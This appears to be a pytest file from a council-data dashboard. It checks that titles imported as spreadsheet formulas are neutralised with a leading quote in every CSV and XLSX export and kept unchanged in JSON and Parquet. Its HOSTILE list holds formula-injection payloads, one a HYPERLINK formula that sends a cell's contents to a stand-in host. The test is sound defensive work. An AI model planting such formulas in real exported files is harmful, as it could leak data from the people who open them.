"""Downloads cannot attack the reader: titles imported as spreadsheet formulas (`=HYPERLINK(...)`, `+1`, `-1+1`,
`@SUM(A1)`, a leading tab) come out of every CSV and XLSX, of either shape, with a leading quote, and unchanged
from JSON and Parquet. The council of data/samples/council, its titles and a unit's name replaced."""

from __future__ import annotations

import io
import json
import shutil

import openpyxl
import polars as pl
import pytest

from dashboard.db import read_engine, write_engine
from dashboard.filters import Filters
from dashboard.schema import metadata
from dashboard.settings import LANGUAGES
from dashboard.writer.importers import run_import
from queries import encode
from queries.datasets import all_datasets
from queries.encode import neutralised
from tests.support import PROJECT_ROOT

HOSTILE = ('=HYPERLINK("http://x/?"&A1,"y")', "+1", "-1+1", "@SUM(A1)", "\tTAB(1)")
COUNCIL = PROJECT_ROOT / "data" / "samples" / "council"
IMPORTS = (("units", "units.csv"), ("targets", "targets.csv"), ("votes", "votes-2026-03-19"),
           ("factions", "factions.csv"), ("decisions", "decisions.csv"), ("petitions", "petitions.csv"),
           ("media", "media.csv"), ("events", "events.csv"), ("traffic", "traffic-visits.json"),
           ("streams", "streams.csv"), ("consultations", "consultations.csv"), ("procurement", "procurement.json"))


def hostile_titles(path, column: str) -> None:
    frame = pl.read_csv(path, infer_schema=False)
    titles = [HOSTILE[i % len(HOSTILE)] for i in range(frame.height)]
    frame.with_columns(pl.Series(column, titles)).write_csv(path)


@pytest.fixture(scope="module")
def council(tmp_path_factory) -> str:
    """The sample council with every title a formula, and the first unit's name one too."""
    folder = tmp_path_factory.mktemp("hostile") / "council"
    shutil.copytree(COUNCIL, folder)
    for name in ("petitions.csv", "media.csv", "events.csv", "streams.csv", "consultations.csv", "decisions.csv"):
        hostile_titles(folder / name, "title")
    motions = pl.read_csv(folder / "votes-2026-03-19" / "motions.csv", infer_schema=False)
    titles = dict(zip(motions["uid"], (HOSTILE[i % len(HOSTILE)] for i in range(motions.height))))
    motions.with_columns(title=pl.col("uid").replace_strict(titles)).write_csv(folder / "votes-2026-03-19" / "motions.csv")
    votings = pl.read_csv(folder / "votes-2026-03-19" / "votings.csv", infer_schema=False)
    votings.with_columns(motionTitle=pl.col("motionUid").replace_strict(titles)).write_csv(
        folder / "votes-2026-03-19" / "votings.csv")
    units = pl.read_csv(folder / "units.csv", infer_schema=False)
    units.with_columns(name_uk=pl.when(pl.int_range(pl.len()) == 4).then(pl.lit(HOSTILE[3])).otherwise("name_uk"),
                       name_en=pl.when(pl.int_range(pl.len()) == 4).then(pl.lit(HOSTILE[0])).otherwise("name_en")
                       ).write_csv(folder / "units.csv")
    package = json.loads((folder / "procurement.json").read_text(encoding="utf-8"))
    for i, release in enumerate(package["releases"]):
        if "tender" in release and "title" in release["tender"]:
            release["tender"]["title"] = HOSTILE[i % len(HOSTILE)]
    (folder / "procurement.json").write_text(json.dumps(package, ensure_ascii=False), encoding="utf-8")
    url = f"sqlite:///{folder.parent / 'council.sqlite'}"
    engine = write_engine(url)
    metadata.create_all(engine)
    for source, name in IMPORTS:
        run_import(engine, source, folder / name, None, None)
    engine.dispose()
    return url


def cells(frame: pl.DataFrame) -> set[str]:
    return {value for name, dtype in frame.schema.items() if dtype == pl.String
            for value in frame[name].drop_nulls() if value}


def xlsx_cells(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row
            if isinstance(cell.value, str)}


def checked(raw: set[str], written: set[str], what: str) -> None:
    """Every formula the rows hold is in the file with its quote, and none without."""
    assert not raw & written, f"{what}: written raw {sorted(raw & written)}"
    assert {f"'{value}" for value in raw} <= written, what


def test_the_sample_council_imports_the_formulas_as_its_titles(council):
    frame = all_datasets()["petitions"].rows(read_engine(council), Filters.all_time(), {}, "https://rada.example")
    assert set(HOSTILE[:4]) <= set(frame["title"])
    assert "TAB(1)" in set(frame["title"])  # an importer trims a title's spaces, a leading tab with them


@pytest.mark.parametrize("period", ["all", "2026"])
def test_every_csv_and_xlsx_neutralises_formulas_and_json_and_parquet_keep_them(council, period):
    engine = read_engine(council)
    filters = Filters.all_time() if period == "all" else Filters.for_year(int(period))
    showing = set()
    for name, dataset in all_datasets().items():
        if set(dataset.params) & {"vote", "deputy", "line"}:
            continue  # a view of one vote or deputy: no titles of the council's own to carry
        rows = dataset.rows(engine, filters, {}, "https://rada.example")
        hostile = {value for value in cells(rows) if value in HOSTILE or value.lstrip("'") in HOSTILE}
        machine_csv = pl.read_csv(io.BytesIO(encode.machine(rows, "csv")), infer_schema=False)
        checked(hostile, cells(machine_csv), f"{name}.csv")
        assert hostile <= cells(pl.read_json(io.BytesIO(encode.machine(rows, "json")))), f"{name}.json"
        assert hostile <= cells(pl.read_parquet(io.BytesIO(encode.machine(rows, "parquet")))), f"{name}.parquet"
        if hostile:
            showing.add(name)
        if not dataset.columns:
            continue
        for lang in LANGUAGES:
            sheet = dataset.sheet(engine, filters, {}, lang, "https://rada.example")
            shown = {value for value in cells(sheet.frame) if value in HOSTILE or HOSTILE[0] in value}
            reader_csv = pl.read_csv(io.BytesIO(encode.reader(sheet, "csv", name)), infer_schema=False,
                                     separator=encode.SEPARATOR[lang])
            checked(shown, cells(reader_csv), f"{name} {lang}.csv")
            checked(shown, xlsx_cells(encode.reader(sheet, "xlsx", name)), f"{name} {lang}.xlsx")
            if shown:
                showing.add(name)
    assert len(showing) >= 15, sorted(showing)  # titles, a unit's name and the 835 pair's titles travel far


def test_the_rule_is_owasp_s_every_leading_sign_and_nothing_else():
    frame = pl.DataFrame({"text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "1-1", "a=b", "'=already", None],
                          "number": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10]})
    assert neutralised(frame)["text"].to_list() == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "1-1", "a=b",
                                                    "'=already", None]
    assert neutralised(frame)["number"].to_list() == frame["number"].to_list()
